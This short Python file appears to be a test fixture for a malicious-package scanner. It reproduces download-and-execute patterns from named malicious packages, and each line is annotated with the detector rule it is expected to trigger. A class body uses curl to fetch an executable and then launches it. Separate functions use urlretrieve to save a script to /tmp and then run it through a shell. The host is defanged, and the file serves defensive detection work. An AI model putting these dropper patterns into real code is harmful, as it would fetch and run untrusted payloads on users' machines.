# Shape of "centerprint" (2024) and "pycryptro" (2023): a shell `curl -o`
# saves an executable that the next statement starts; a urlretrieve to a
# fixed path in one function, run by a shell command in another.
# Defanged: example.invalid.
import subprocess
from urllib import request


class Printer:
    subprocess.Popen(["cd C:/ && curl https://example.invalid/private/dark.exe -o dark.exe"], shell=True)  # expect: HS113 medium
    subprocess.Popen(["C:/dark.exe"])  # expect: HS107 critical


def goodwork():
    request.urlretrieve("https://example.invalid/pytmp.py", "/tmp/pytmp.py")


def runme():
    subprocess.call("python3 /tmp/pytmp.py", shell=True)  # expect: HS107 critical


goodwork()
runme()
